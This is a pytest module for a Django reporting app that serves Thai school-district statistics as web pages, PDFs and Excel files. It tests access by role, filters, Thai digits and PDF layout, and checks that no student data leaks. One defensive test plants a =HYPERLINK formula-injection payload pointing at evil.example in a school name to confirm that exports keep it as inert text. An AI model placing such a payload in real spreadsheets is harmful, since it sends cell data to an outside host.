"""One Report, three renderings: the page, the PDF and the Excel file show the same numbers.

Who sees what: officers and executives read every report; only officers may ask for provisional
figures; school users get 403 (their own figures are on their school's pages); no report shows a
student's row.
"""

import html
import io
import re
import subprocess
import unicodedata

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from reports import catalogue
from students.models import StudentRecord
from tests.factories import SchoolFactory
from tests.reports.test_selectors import build_world, records
from tests.students.factories import SubmissionFactory


@pytest.fixture
def world(db):
    return build_world()


def url(name, **params):
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return reverse("reports:report", kwargs={"name": name}) + (f"?{query}" if query else "")


def table_rows(page):
    """The text of each <tr> of the report's tables, as lists of cell strings."""
    rows = []
    for tr in re.findall(r"<tr[^>]*>(.*?)</tr>", page, re.S):
        cells = [html.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", tr, re.S)]
        rows.append(cells)
    return rows


def pdf_text(data):
    out = subprocess.run(["pdftotext", "-raw", "-", "-"], input=data, capture_output=True, check=True)
    # -raw keeps the stream order: -layout puts a tone mark stacked over a vowel on a line of its own.
    # The PDF writes ำ as its two parts (see reports/pdf.py); compare text in the decomposed form.
    return unicodedata.normalize("NFKD", out.stdout.decode())


def nfkd(text):
    return unicodedata.normalize("NFKD", text)


# --- who sees what ------------------------------------------------------------------------------


@pytest.mark.parametrize("role,status", [("officer", 200), ("executive", 200), ("admin_user", 200),
                                         ("staff", 403), ("director", 403)])
def test_catalogue_page_by_role(request, as_user, world, role, status):
    response = as_user(request.getfixturevalue(role)).get(reverse("reports:index"))
    assert response.status_code == status
    if status == 200:
        for name, entry in catalogue.CATALOGUE.items():
            assert entry.title in response.content.decode()
            assert reverse("reports:report", kwargs={"name": name}) in response.content.decode()


def test_anonymous_is_sent_to_login(client, world):
    response = client.get(url("students"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("role", ["staff", "director", "outsider"])
def test_school_users_get_403_even_for_their_own_school(request, as_user, world, role):
    assert as_user(request.getfixturevalue(role)).get(url("students", school="64010001")).status_code == 403


@pytest.mark.parametrize("name", list(catalogue.CATALOGUE))
def test_each_report_page_for_an_executive_has_table_chart_links_and_no_personal_data(as_user, executive, world,
                                                                                     name):
    response = as_user(executive).get(url(name, round=world.nov.pk, group_by="school"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "ข้อมูลจากโรงเรียนที่รับรองแล้ว 2 แห่ง จากทั้งหมด 4 แห่ง" in page
    assert "<svg" in page and "<table" in page
    assert "format=pdf" in page and "format=xlsx" in page
    for record in StudentRecord.objects.all():
        assert record.person_id not in page and record.first_name not in page


def test_unknown_report_or_round_is_404(as_user, officer, world):
    assert as_user(officer).get(url("no-such-report")).status_code == 404
    assert as_user(officer).get(url("students", round="2570-nov10")).status_code == 404


def test_the_current_round_is_the_default(as_user, officer, world):
    response = as_user(officer).get(url("students"))
    assert response.context["report"].round == world.nov


def test_provisional_figures_are_for_officers_and_are_marked(as_user, officer, executive, world):
    response = as_user(officer).get(url("students", provisional=1))
    page = response.content.decode()
    assert 'data-testid="provisional"' in page and "ข้อมูลเบื้องต้น" in page
    assert ["รวมทั้งสิ้น", "13", "6", "19"] in table_rows(page)
    assert as_user(executive).get(url("students", provisional=1)).status_code == 403
    plain = as_user(officer).get(url("students")).content.decode()
    assert 'data-testid="provisional"' not in plain and ["รวมทั้งสิ้น", "8", "6", "14"] in table_rows(plain)


def test_filters_from_the_query_string(as_user, officer, world):
    page = as_user(officer).get(url("students", district="6402")).content.decode()
    assert "ข้อมูลจากโรงเรียนที่รับรองแล้ว 1 แห่ง จากทั้งหมด 1 แห่ง" in page and ["รวมทั้งสิ้น", "3", "2", "5"] in table_rows(page)
    page = as_user(officer).get(url("students", cluster=world.c1.pk)).content.decode()
    assert ["รวมทั้งสิ้น", "5", "4", "9"] in table_rows(page)
    page = as_user(officer).get(url("students", school="64010102")).content.decode()
    assert "บ้านบี" in page and ["รวมทั้งสิ้น", "3", "2", "5"] in table_rows(page)


def test_thai_digits_on_request(as_user, officer, world):
    page = as_user(officer).get(url("students", digits="th")).content.decode()
    assert ["รวมทั้งสิ้น", "๘", "๖", "๑๔"] in table_rows(page)


# --- the PDF and the Excel file say what the page says ------------------------------------------


def test_pdf_has_the_pages_numbers_in_thai_with_page_numbers(as_user, officer, world):
    client = as_user(officer)
    page = client.get(url("students")).content.decode()
    response = client.get(url("students", format="pdf"))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert 'filename="report-students-2569-nov10.pdf"' in response["Content-Disposition"]
    text = pdf_text(response.content)
    lines = [nfkd(" ".join(line.split())) for line in text.splitlines()]
    rows = [r for r in table_rows(page) if r]
    assert len(rows) == 17  # header, 15 grade and subtotal rows, total
    for cells in rows:
        assert nfkd(" ".join(cells)) in lines, f"{cells} not in the PDF"
    for words in ("จำนวนนักเรียนจำแนกตามชั้นและเพศ", "ชาย", "หญิง", "ประถมศึกษา", "มัธยมศึกษาตอนต้น",
                  "ข้อมูลจากโรงเรียนที่รับรองแล้ว 2 แห่ง จากทั้งหมด 4 แห่ง", "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาสุโขทัย เขต 1"):
        assert nfkd(words) in text, words
    assert "หน้า 1/" in text
    assert "\u25cc" not in text  # no dotted circles


def test_pdf_in_thai_digits_repeats_table_headers_on_each_page(as_user, officer, world):
    response = as_user(officer).get(url("students", group_by="school", digits="th", format="pdf"))
    pages = pdf_text(response.content).split("\f")
    assert len([p for p in pages if p.strip()]) == 2  # the grade table runs onto page 2 (A4 landscape)
    assert "หน้า ๑/๒" in pages[0] and "หน้า ๒/๒" in pages[1]
    assert "ชั้น ชาย หญิง รวม" in pages[1]  # the header again, above the rest of the grade table
    assert "รวมทั้งสิ้น ๘ ๖ ๑๔" in pages[1]
    assert "๖๔๐๑๐๑๐๑" in pages[1]


def test_xlsx_has_the_same_numbers_with_thai_headers(as_user, officer, world):
    client = as_user(officer)
    page = client.get(url("students", group_by="amphoe")).content.decode()
    response = client.get(url("students", group_by="amphoe", format="xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [[("" if v is None else f"{v:,}" if isinstance(v, int) else str(v)) for v in row]
             for row in sheet.iter_rows(values_only=True)]
    cells = [row[: len(row) - next((i for i, v in enumerate(reversed(row)) if v), len(row))] for row in cells]
    for row in (r for r in table_rows(page) if r):
        assert row in cells, f"{row} not in the Excel file"
    assert ["ข้อมูลจากโรงเรียนที่รับรองแล้ว 2 แห่ง จากทั้งหมด 4 แห่ง"] in cells
    assert ["ชั้น", "ชาย", "หญิง", "รวม"] in cells


def test_long_report_pages_break_with_repeated_headers(as_user, officer, world):
    """The print CSS repeats table headers and never splits a row (checked in the markup: cheap)."""
    from reports.views import render_report_html

    document = render_report_html(catalogue.build("students", world.nov), pdf=True)
    assert "thead { display: table-header-group; }" in document
    assert 'counter(page) "/" counter(pages)' in document
    assert "html { font-family: \"Sarabun\"" in document and "@font-face" in document


def test_thai_digits_reach_the_coverage_line(as_user, officer, world):
    page = as_user(officer).get(url("students", digits="th")).content.decode()
    assert "ข้อมูลจากโรงเรียนที่รับรองแล้ว ๒ แห่ง จากทั้งหมด ๔ แห่ง" in page


@pytest.mark.parametrize("name", list(catalogue.CATALOGUE))
def test_a_report_page_takes_the_same_queries_for_a_bigger_district(as_user, officer, world, name):
    """Aggregated in SQL: the number of queries does not grow with schools or records."""
    client = as_user(officer)

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url(name, group_by="school")).status_code == 200
        return len(captured)

    queries()  # warm the session
    before = queries()
    for n in range(3):
        school = SchoolFactory(smis_code=f"6401020{n}", obec_code=f"106401020{n}", cluster=world.c2)
        SubmissionFactory(round=world.nov, school=school, status="certified")
        SubmissionFactory(round=world.june, school=school, status="certified")
        for grade in ("K2", "P3", "M2"):
            records(world.nov, school, grade, "F", 2, room=n + 1)
            records(world.june, school, grade, "M", 1)
    assert queries() == before


@pytest.mark.parametrize("name", list(catalogue.CATALOGUE))
def test_a_name_typed_as_a_formula_stays_text_in_every_excel_file(as_user, officer, world, name):
    """A school renamed "=HYPERLINK(…)" in the admin must not become a live formula in a download."""
    from schools.models import School

    School.objects.filter(smis_code__startswith="640101").update(name='=HYPERLINK("http://evil.example/?"&A1,"ดู")')
    response = as_user(officer).get(url(name, round=world.nov.pk, group_by="school", format="xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells in the {name} download: {formulas}"
